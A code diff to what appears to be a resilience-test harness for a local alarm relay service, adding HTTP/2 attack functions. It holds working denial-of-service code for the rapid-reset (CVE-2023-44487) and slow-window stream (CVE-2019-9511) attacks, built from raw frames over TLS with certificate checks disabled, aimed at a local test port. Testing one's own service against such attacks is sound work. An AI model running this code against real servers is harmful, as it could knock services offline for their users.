@@ -2,7 +2,7 @@
 
 An attack is a function that plays for some seconds and returns what should not have happened, in words.
 """
-import contextlib, http.client, json, multiprocessing, os, random, selectors, socket, subprocess, time
+import contextlib, http.client, json, multiprocessing, os, random, selectors, socket, ssl, subprocess, threading, time
 
 from device import Device, Refused, pair, set_alarm, words
 from stage import CLAIMS, free_port, until
@@ -235,6 +235,70 @@ def one_code(relay, _seconds):
     return f"devices that nobody confirmed could make {', '.join(able)}" if able else None
 
 
+# Types and flags of HTTP/2's frames, and `GET /v1/alarms` as the fields of a head (RFC 9113, section 6; RFC 7541).
+HEADERS, RESET, SETTINGS, WINDOW_UPDATE, END_STREAM, END_HEADERS = 1, 3, 4, 8, 1, 4
+REQUEST = b"\x82\x87\x04\x0a/v1/alarms\x01\x09localhost"
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload
+
+
+def ask(stream):
+    return frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST)
+
+
+def speaking(relay, seconds, connections, settings, play):
+    """Has `play` do what it will with many connections of HTTP/2, each begun anew when it is closed."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    end, begun = time.monotonic() + seconds, []
+
+    def one():
+        while time.monotonic() < end:
+            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", relay.port), 5) as plain:
+                with context.wrap_socket(plain) as secure:
+                    if secure.selected_alpn_protocol() == "h2":
+                        begun.append(1)
+                    secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=settings))
+                    play(secure, end)
+
+    threads = [threading.Thread(target=one) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return None if len(begun) >= connections else f"only {len(begun)} connections spoke HTTP/2"
+
+
+def rapid_resets(relay, seconds):
+    """20 connections of HTTP/2 ask and take it back at once, as fast as they can (CVE-2023-44487)."""
+    def play(secure, end):
+        stream = 1
+        while time.monotonic() < end:
+            numbers = range(stream, stream + 100, 2)
+            secure.sendall(b"".join(ask(one) + frame(RESET, 0, one, (8).to_bytes(4)) for one in numbers))
+            stream += 100
+
+    return speaking(relay, seconds, 20, b"", play)
+
+
+def many_streams(relay, seconds):
+    """100 connections of HTTP/2 have 32 answers each under way, and take them byte by byte (CVE-2019-9511)."""
+    streams = range(1, 65, 2)
+    room = b"".join(frame(WINDOW_UPDATE, 0, one, (1).to_bytes(4)) for one in streams)
+
+    def play(secure, end):
+        secure.sendall(b"".join(ask(one) for one in streams))
+        while time.monotonic() < end:
+            secure.sendall(room)
+            secure.recv(1 << 16)
+
+    # SETTINGS_INITIAL_WINDOW_SIZE: no byte of a body before there is room for it.
+    return speaking(relay, seconds, 100, (4).to_bytes(2) + (0).to_bytes(4), play)
+
+
 def every_minute(relay, _seconds):
     """A partner sets alarms that ring every minute of the day."""
     mallory, other = Device(relay.port, relay.code()), Device(relay.port, relay.code())
@@ -326,4 +390,6 @@ def apart(attack, relay, seconds):
 
 # These play for some seconds while the canary rings; the others only look.
 PLAYED = [pipelining, flooding, long_rules, previews, slow_bodies, invites, silent_webhooks, many_networks]
+# The same, at a relay that speaks TLS and HTTP/2 itself.
+PLAYED_ON_HTTP2 = [rapid_resets, many_streams]
 LOOKED_AT = [one_code, many_letters, every_minute, bad_chunks, request_ids, foreign_files]
